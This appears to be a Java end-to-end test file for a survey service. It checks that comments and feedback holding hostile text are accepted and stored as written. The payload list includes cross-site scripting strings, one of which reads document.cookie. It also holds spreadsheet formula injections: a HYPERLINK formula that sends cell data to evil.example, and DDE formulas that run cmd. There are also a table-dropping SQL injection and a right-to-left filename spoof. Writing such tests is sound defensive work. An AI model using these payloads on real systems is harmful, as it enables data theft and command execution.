package uz.fikr.e2e.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import tools.jackson.databind.node.ObjectNode;
import uz.fikr.e2e.hostile.HostileCase.Service;
import uz.fikr.e2e.hostile.HostileCase.Shape;
import uz.fikr.e2e.hostile.HostileCase.Stored;

/**
 * Free text that looks like an attack on whoever shows or exports it later (HTML and JavaScript, spreadsheet
 * formulas, SQL) is what a reader wrote: it is taken as data (202) and stored exactly as written. Escaping it is
 * the job of every page and export that shows it.
 */
final class AcceptedCases {

    static final String GROUP = "accepted as data";
    /** The demo answer stores satisfaction, recommendation, service and comment. */
    private static final int DEMO_ANSWER_ROWS = 4;
    private static final String[][] TEXTS = {
        {"a script tag", "<script>alert(1)</script>"},
        {"an image with an error handler", "<img src=x onerror=alert(document.cookie)>"},
        {"an attribute breakout", "\"><svg/onload=alert(1)>"},
        {"a javascript: link", "javascript:alert(1)//Batafsil"},
        {"a HYPERLINK formula", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Batafsil\")"},
        {"a plus-sign DDE formula", "+cmd|' /C calc'!A0"},
        {"an at-sign formula", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"a minus-sign formula", "-2+3+cmd|' /C calc'!A0"},
        {"SQL that drops the answers", "'); DROP TABLE fikr.answers; --"},
        {"backslashes and quotes", "C:\\Users\\'kitobxon'\\\" UNION SELECT 1 \\"},
        {"tabs and line breaks", "Birinchi qator\n\tikkinchi qator\r\nuchinchi"},
        {"right-to-left override and zero-width joiner", "\u202Egnp.exe\u200D kitob"},
        {"2,000 emoji, the longest comment allowed", "\uD83D\uDCDA".repeat(2_000)}};

    private AcceptedCases() {}

    static List<HostileCase> all() {
        List<HostileCase> cases = new ArrayList<>();
        for (String[] text : TEXTS) {
            UUID id = UUID.randomUUID();
            ObjectNode response = Bodies.demoResponse(id);
            Bodies.answers(response).put("comment", text[1]);
            cases.add(HostileCase.of(GROUP, "a comment with " + text[0]).post(Service.SURVEY, "/api/v1/responses")
                    .json(Bodies.bytes(response)).expect(202).shape(Shape.ACKNOWLEDGED)
                    .stores(new Stored(Stored.Kind.RESPONSE, id, DEMO_ANSWER_ROWS, text[1])).build());
        }
        for (String[] text : List.of(TEXTS[0], TEXTS[4], TEXTS[5], TEXTS[6], TEXTS[8])) {
            UUID id = UUID.randomUUID();
            cases.add(HostileCase.of(GROUP, "feedback with " + text[0]).post(Service.SURVEY, "/api/v1/feedback")
                    .json(Bodies.bytes(Bodies.feedback(id).put("text", text[1]))).expect(202)
                    .shape(Shape.ACKNOWLEDGED).stores(new Stored(Stored.Kind.FEEDBACK, id, 0, text[1].strip()))
                    .build());
        }
        return cases;
    }
}
